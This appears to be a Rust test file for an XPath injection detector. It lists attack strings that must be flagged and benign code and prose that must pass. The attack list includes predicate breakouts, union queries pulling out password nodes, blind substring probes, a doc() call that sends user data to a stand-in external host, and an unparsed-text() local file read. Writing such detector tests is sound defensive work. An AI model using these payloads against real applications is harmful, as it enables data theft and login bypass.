//! What leaves a predicate of XPath, and what stands closest to it.

use super::*;

fn found(text: &str) -> bool {
    let mut best = Best::default();
    judge(text.as_bytes(), &mut best);
    best.certain()
}

#[test]
fn what_leaves_a_predicate_is_found() {
    for attack in [
        "' or //user/name[2]='a' or '",
        "' or contains(name,'a') or '",
        "' or starts-with(name,'a') or '",
        "'] | //password | a['",
        "1] | //* | //*[1",
        "')] | //q | //*[contains(a,'",
        "substring(//user[1],2,1)",
        "string-length(//u[position()=1]/child::node()[position()=2])",
        "doc(concat('http://e.example/',//user[1]))",
        "' or @*[name()='x'] or '",
        "']/parent::*/child::node()['",
        "3 or count(parent::*[position()=1])=0",
        "//user[name/text()='x' or '1'='1']",
        "/*[1]/*[2]/text()|//role",
        "' or position()=2 or '",
        "'or true() or'",
        "x\" or not(false()) or \"",
        "' or @role='admin",
        "') or .='a",
        "1 or last()=1",
        "'|//*|'",
        "x') | //a/b | ('",
        "a | //@*",
        "//*",
        "string-length(name(/*[1]))=3",
        "' and lower-case(//user[1])='a",
        "'/ancestor-or-self::*['",
        "sum(//account/amount)",
        "' or system-property('a:b') or '",
        "' or . or '",
        "' or following-sibling::* or '",
        "' or user/name='b",
        "' or .//b or '",
        "']/..//b['",
        "'] union //b | a['",
        "'=//b or '",
        "' or base-uri() or '",
        "unparsed-text('file:///b')",
        "doc('http://b.example/')",
        "string-join(//b/c,',')",
        "-1 or position()=2",
    ] {
        assert!(found(attack), "{attack}");
    }
}

#[test]
fn code_paths_and_prose_pass() {
    for benign in [
        "count(//comment\nx)",
        "str.contains(/a|b/)",
        "substring(0, 5)",
        "contains(name, 'a') or b",
        "it's here or contains(the rest)",
        "a | /b/c",
        "[a] | [b]",
        "| [x](//example.com) | /y |",
        "https://example.com//a[1]",
        "std::self::x",
        "//div[@class='x']",
        "concat('a', 'b')",
        "/users/{id} or /groups/{id}",
        "Result<Self::Value, Self::Error>",
        "\"text\" => Ok(Some(Self::Text)),",
        "x or name(y)",
        "'a' | //b",
        "it's | // a comment",
        "not(//is this)",
        "parent::child::x()",
        "not(exists(f:contained/*/f:meta/f:security))",
        "not(descendant::*/@*[not(name(.)=('a', 'b'))])",
        "a[b='c']|/*/d[e=substring-after(f(), '#')]",
        "String or text() construct expected",
        "count(//f:name[f:use/@value='a'])",
        "document('a.xml')",
        "it's or is it",
        "']; x = y",
    ] {
        assert!(!found(benign), "{benign}");
    }
}
